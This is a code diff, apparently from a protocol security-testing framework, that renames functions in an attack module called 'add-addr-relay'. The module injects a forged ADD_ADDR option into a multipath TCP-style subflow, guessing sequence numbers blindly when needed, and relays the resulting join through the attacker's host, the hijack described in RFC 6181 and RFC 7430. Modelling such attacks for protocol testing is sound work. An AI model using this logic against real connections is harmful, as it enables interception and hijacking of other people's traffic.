@@ -38,7 +38,8 @@ struct state {
     unsigned n, rounds;
 };
 
-static void offer(struct atk *a, struct atk_watched *f, bool v0, uint64_t now)
+static void send_add_addr(struct atk *a, struct atk_watched *f, bool v0,
+                          uint64_t now)
 {
     const struct atk_config *cfg = atk_config(a);
     struct mpx_opt o = {.subtype = MPX_SUB_ADD_ADDR};
@@ -54,7 +55,7 @@ static void offer(struct atk *a, struct atk_watched *f, bool v0, uint64_t now)
 }
 
 /* Both forms: what the victim does not know it ignores. */
-static void act(struct atk *a, void *state, uint64_t now)
+static void offer_address(struct atk *a, void *state, uint64_t now)
 {
     struct state *st = state;
     uint64_t tries = atk_param(a, KNOWS) == BLIND ? atk_param(a, PROBES) : 1;
@@ -68,8 +69,8 @@ static void act(struct atk *a, void *state, uint64_t now)
                 atk_random(a, &f.way[1].ack, sizeof f.way[1].ack);
                 f.way[1].has_ts = false;
             }
-            offer(a, &f, true, now);
-            offer(a, &f, false, now);
+            send_add_addr(a, &f, true, now);
+            send_add_addr(a, &f, false, now);
         }
     }
     if (atk_param(a, KNOWS) != BLIND && ++st->rounds < ROUNDS)
@@ -86,7 +87,7 @@ static bool same_flow(const struct atk_flow *x, const struct atk_flow *y)
 }
 
 /* The client's SYN: where it was meant to go is where the watched flow goes. */
-static const struct relay *begin(struct state *st, const struct atk_flow *f)
+static const struct relay *add_relay(struct state *st, const struct atk_flow *f)
 {
     struct relay *r;
 
@@ -100,9 +101,9 @@ static const struct relay *begin(struct state *st, const struct atk_flow *f)
     return r;
 }
 
-static void pass(struct atk *a, const struct atk_flow *to, const uint8_t *hdr,
-                 uint8_t hdr_len, const uint8_t *payload, size_t len,
-                 uint64_t now)
+static void relay_segment(struct atk *a, const struct atk_flow *to,
+                          const uint8_t *hdr, uint8_t hdr_len,
+                          const uint8_t *payload, size_t len, uint64_t now)
 {
     uint8_t h[MPX_TCP_HDR_MIN + MPX_TCP_OPT_MAX];
 
@@ -112,38 +113,41 @@ static void pass(struct atk *a, const struct atk_flow *to, const uint8_t *hdr,
     atk_host_send(a, to, h, hdr_len, payload, len, now);
 }
 
-static void host(struct atk *a, void *state, const struct atk_flow *f,
-                 const uint8_t *hdr, uint8_t hdr_len, const uint8_t *payload,
-                 size_t len, uint64_t now)
+static void on_host_segment(struct atk *a, void *state,
+                            const struct atk_flow *f, const uint8_t *hdr,
+                            uint8_t hdr_len, const uint8_t *payload, size_t len,
+                            uint64_t now)
 {
     struct state *st = state;
     const struct relay *r = NULL;
 
     for (unsigned i = 0; i < st->n; i++) {
         if (same_flow(f, &st->v[i].in))
-            pass(a, &st->v[i].out, hdr, hdr_len, payload, len, now);
+            relay_segment(a, &st->v[i].out, hdr, hdr_len, payload, len, now);
         if (same_flow(f, &st->v[i].out))
-            pass(a, &st->v[i].in, hdr, hdr_len, payload, len, now);
+            relay_segment(a, &st->v[i].in, hdr, hdr_len, payload, len, now);
         if (same_flow(f, &st->v[i].in) || same_flow(f, &st->v[i].out))
             return;
     }
     if (mpx_seg_kind_of(hdr[MPX_TCP_OFF_FLAGS]) == MPX_SEG_SYN)
-        r = begin(st, f);
+        r = add_relay(st, f);
     if (!r)
         return;
     atk_count_join(a);
-    pass(a, &r->out, hdr, hdr_len, payload, len, now);
+    relay_segment(a, &r->out, hdr, hdr_len, payload, len, now);
 }
 
 const struct atk_ops atk_add_addr_relay = {
     .name = "add-addr-relay",
     .id = "AT-04",
+    .does = "puts an ADD_ADDR with its own address into a subflow and relays "
+            "the join that follows, or guesses the numbers without seeing them",
     .source = "RFC 6181 section 6.1; RFC 7430 section 2",
     .powers = ATK_READ | ATK_INJECT | ATK_HOST,
     .params = params,
     .state_size = sizeof(struct state),
-    .see = atk_flows_watch,
-    .act = act,
-    .host = host,
-    .timer = act,
+    .on_segment = atk_flows_watch,
+    .on_start = offer_address,
+    .on_host_segment = on_host_segment,
+    .on_timer = offer_address,
 };
